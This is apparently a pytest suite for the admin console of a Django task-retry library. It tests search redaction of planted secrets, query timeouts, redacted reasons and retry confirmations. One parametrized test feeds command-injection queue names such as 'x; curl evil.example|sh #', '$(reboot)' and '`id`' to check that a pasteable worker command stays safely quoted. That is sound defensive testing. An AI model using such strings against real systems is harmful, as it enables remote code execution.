"""No request can be made to tell what its user may not see, nor to work longer than it is given."""

from __future__ import annotations

import html
import shlex

import pytest
from django.db import connections
from django.test import override_settings
from django.test.utils import CaptureQueriesContext

from django_tasks_retry import taskqueue
from django_tasks_retry.models import Task, TaskEvent
from django_tasks_retry.selection import grammar
from django_tasks_retry.taskqueue import timeouts
from tests import tasks
from tests.admin.test_task_page import why

BASE = "/admin/django_tasks_retry"
LIST = f"{BASE}/task/"
MESSAGE = "login failed for password=hunter2 at bank"
LOOKUPS = (
    "last_error__message__startswith", "kwargs__note__startswith", "args__icontains", "metadata__a", "args",
    "outcome__result__contains", "outcome__error__icontains", "events__data__icontains", "func_path__regex",
    "retries__kwargs__icontains", "unique_key__startswith", "id__in",
)  # fmt: skip
ANY_QUEUE = {"default": {"BACKEND": "django_tasks_retry.backend.RetryBackend", "QUEUES": []}}


@pytest.fixture
def failed(database) -> Task:
    task = Task.objects.enqueue(tasks.noop, kwargs={"note": "planted"}, max_attempts=1)
    [lease] = taskqueue.claim("w")
    taskqueue.fail_task(lease, RuntimeError(MESSAGE))
    return task


def finds(client, text: str) -> bool:
    return bool(client.get(LIST, {"q": f'error:"{text}"'}).context["cl"].result_count)


class TestSearch:
    @pytest.mark.fault("console_asked_for_hidden_data")
    def test_who_may_not_see_messages_learns_nothing_of_them(self, failed, session_with):
        client = session_with("view_task")
        assert finds(client, "RuntimeError")
        guesses = ("login", "pass", "passw", "password=", "password=h", "password=x", "hunter2", "at bank", "bank")
        assert not any(finds(client, guess) for guess in guesses)

    @pytest.mark.fault("console_asked_for_hidden_data")
    def test_nobody_learns_what_is_hidden_from_all(self, failed, operator):
        assert finds(operator, "at bank")
        assert finds(operator, "password=")
        assert not finds(operator, "password=h")
        assert not finds(operator, "hunter2")

    @pytest.mark.fault("console_asked_for_hidden_data")
    def test_a_confirmation_counts_no_more_than_the_list(self, failed, session_with):
        client = session_with("view_task", "retry_task")
        asked = client.post(f"{LIST}?q=error:bank", {"action": "retry_selected", "select_across": "1", "index": 0})
        assert asked.context["possible"] == "0"

    @pytest.mark.fault("console_asked_for_hidden_data")
    def test_no_column_can_be_asked_for_in_the_address(self, failed, session_with):
        client = session_with("view_task")
        for lookup in LOOKUPS:
            assert client.get(LIST, {lookup: "p"}).status_code == 400, lookup

    @pytest.mark.fault("expensive_console_requests")
    def test_its_cost_does_not_grow_with_the_number_of_words(self, failed, operator, database):
        def asked(query: str) -> int:
            with CaptureQueriesContext(connections[database]) as queries:
                assert operator.get(LIST, {"q": query}).status_code == 200
            return sum("fingerprint" in query["sql"] for query in queries)

        one = asked("error:a")
        assert asked(" ".join(["error:a"] * grammar.MAX_WORDS)) <= one
        assert asked(" ".join(["error:a"] * (grammar.MAX_WORDS + 1))) < one
        assert asked("error:" + "a" * 1500) < one

    @pytest.mark.parametrize("text", ["error:a " * 20, "x" * 500])
    def test_what_is_too_long_is_answered_with_the_limits(self, text, failed, operator):
        response = operator.get(LIST, {"q": text})
        assert "Search for at most 10 words and 400 characters." in response.content.decode()
        assert not response.context["cl"].result_count


class TestTime:
    @pytest.mark.fault("expensive_console_requests")
    def test_everything_that_a_request_asks_is_within_the_limit(self, failed, operator, monkeypatch):
        monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", -100.0)
        for page in ("overview/", "task/?q=error:bank", "failuregroup/", "queue/", "worker/"):
            response = operator.get(f"{BASE}/{page}")
            assert response.status_code == 200, page
            assert "took too long" in response.content.decode(), page

    @pytest.mark.fault("expensive_console_requests")
    def test_a_statement_that_takes_too_long_is_cancelled(self, database, monkeypatch):
        monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", 0.02)
        monkeypatch.setattr(timeouts, "REQUEST_SECONDS", 0.0)
        numbers = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000000)"
        with (
            pytest.raises(timeouts.OperationalError) as caught,
            timeouts.statement_timeout(database),
            connections[database].cursor() as cursor,
        ):
            cursor.execute(f"{numbers} SELECT max(i) FROM n")
        assert timeouts.is_timeout(caught.value)

    def test_an_action_that_waits_too_long_changes_nothing_and_says_so(self, failed, operator, monkeypatch):
        monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", -100.0)
        response = operator.post(f"{LIST}{failed.pk}/retry/")
        assert "nothing was changed" in response.content.decode()
        assert not Task.objects.filter(retry_of=failed.pk).exists()

    def test_trouble_of_the_database_is_not_told_as_slowness(self):
        assert not timeouts.is_timeout(timeouts.OperationalError("server closed the connection"))


class TestReasons:
    """The reason of a task or a person may quote anything: it needs the permission, and is redacted."""

    REASON = "429 from https://api.example/?token=hunter2 planted"

    @pytest.fixture
    def told(self, database) -> Task:
        snoozed, cancelled = Task.objects.enqueue_many([(tasks.noop,)] * 2)
        cancelled.cancel(by="x", reason=self.REASON)
        [lease] = taskqueue.claim("w")
        taskqueue.release_task(lease, self.REASON, 60.0)
        taskqueue.pause("emails", by="x", reason=self.REASON)
        Task.objects.enqueue(tasks.noop, queue="emails")
        return snoozed

    def pages(self, client) -> str:
        urls = ["overview/", "task/", "queue/", "worker/", "failuregroup/"]
        urls += [f"task/{pk}/change/" for pk in Task.objects.values_list("pk", flat=True)]
        return "".join(client.get(f"{BASE}/{url}").content.decode() for url in urls)

    @pytest.mark.fault("reasons_that_quote_secrets")
    def test_they_are_not_told_without_the_permission(self, told, session_with):
        reasons = [event.data["reason"] for event in TaskEvent.objects.filter(data__has_key="reason")]
        assert ["planted" in reason and "hunter2" not in reason for reason in reasons] == [True, True]
        shown = self.pages(session_with("view_task", "view_queue", "view_worker"))
        assert "planted" not in shown
        assert "hunter2" not in shown

    @pytest.mark.fault("reasons_that_quote_secrets")
    def test_they_are_told_without_their_secrets(self, told, operator):
        shown = self.pages(operator)
        assert shown.count("planted") >= 4
        assert "hunter2" not in shown


@pytest.mark.fault("names_in_commands_to_paste")
@pytest.mark.parametrize("queue", ["x; curl evil.example|sh #", "$(reboot)", "a'b", "-rf", "`id`", "two words"])
def test_a_command_to_paste_is_one_command_whatever_a_queue_is_called(queue, database, operator):
    with override_settings(TASKS=ANY_QUEUE):
        task = Task.objects.enqueue(tasks.noop, queue=queue)
        taskqueue.register_worker(
            "w",
            "default",
            host="h",
            pid=1,
            version="1",
            queues=["other"],
            tasks=["tests.tasks.noop"],
            processes=1,
            slots=1,
        )
        overview = html.unescape(operator.get(f"{BASE}/overview/").content.decode())
        for text in (why(operator, task), overview):
            command = text[text.index("python manage.py runworker") :].partition("</code>")[0]
            words = shlex.split(command.replace("--queues=", "--queues "))
            assert words == ["python", "manage.py", "runworker", "--queues", queue]


class TestASecondRetry:
    def test_it_asks_first_and_says_what_came_of_the_first(self, failed, operator):
        operator.post(f"{LIST}{failed.pk}/retry/")
        first = Task.objects.get(retry_of=failed.pk)
        asked = operator.post(f"{LIST}{failed.pk}/retry/", {"reason": "once more"})
        assert asked.status_code == 200
        shown = asked.content.decode()
        assert "This task has already been retried:" in shown
        assert f"{LIST}{first.pk}/change/" in shown
        assert "Pending" in shown
        assert 'value="once more"' in shown
        assert Task.objects.filter(retry_of=failed.pk).count() == 1

    def test_confirmed_it_is_done(self, failed, operator):
        operator.post(f"{LIST}{failed.pk}/retry/")
        operator.post(f"{LIST}{failed.pk}/retry/", {"again": "1", "reason": "once more"})
        assert Task.objects.filter(retry_of=failed.pk).count() == 2

    def test_the_tasks_page_names_the_retries_above_the_button(self, failed, operator):
        operator.post(f"{LIST}{failed.pk}/retry/")
        shown = operator.get(f"{LIST}{failed.pk}/change/").content.decode()
        assert shown.index("Already retried as") < shown.index("Retry…")

    def test_of_many_the_confirmation_counts_those_retried_and_those_that_succeeded(self, failed, operator):
        operator.post(f"{LIST}{failed.pk}/retry/")
        taskqueue.complete_task(taskqueue.claim("w")[0], None)
        asked = operator.post(LIST, {"action": "retry_selected", "select_across": "1", "index": 0})
        assert "1 of them had succeeded" in asked.content.decode()
        assert "1 of them has been retried before." in asked.content.decode()
